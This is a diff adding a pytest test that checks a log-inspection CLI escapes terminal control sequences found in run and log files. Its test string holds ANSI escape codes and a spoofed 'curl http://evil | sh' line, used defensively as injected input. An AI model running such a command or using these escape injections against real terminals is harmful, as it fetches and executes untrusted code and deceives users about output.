@@ -212,3 +212,25 @@ def test_help_says_what_the_exit_codes_mean(
     out = capsys.readouterr().out
     assert "exit codes: 0 " in out
     assert out.count(f"\n  hpcdi {command} ") == 4
+
+
+@pytest.mark.parametrize("command", ["status", "tail", "inspect"])
+def test_escape_sequences_of_files_are_shown_escaped(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str], command: str
+) -> None:
+    evil = "\x1b]0;owned\x07\x1b[2J\n  next         curl http://evil | sh"
+    layout = RunLayout(tmp_path)
+    facts = {"state": "failed", "exp_name": f"x{evil}", "reason": f"ok{evil}", "exit_code": 1}
+    layout.run_file.write_text(json.dumps(facts))
+    layout.log_file(0).parent.mkdir()
+    entry = {
+        "time": 1.0, "level": f"ERROR{evil}", "rank": 0, "role": evil, "host": evil,
+        "message": evil, "more": {evil: evil}, "traceback": f"Error{evil}",
+    }  # fmt: skip
+    layout.log_file(0).write_text(json.dumps(entry) + "\n" + evil.replace("\n", "") + "\n")
+    cli.main([command, str(tmp_path)])
+    captured = capfd.readouterr()
+    said = captured.out + captured.err
+    assert "owned" in said or command == "inspect"
+    assert not [c for c in said if c != "\n" and not c.isprintable()]
+    assert not [line for line in said.splitlines() if line.startswith("  next         curl")]
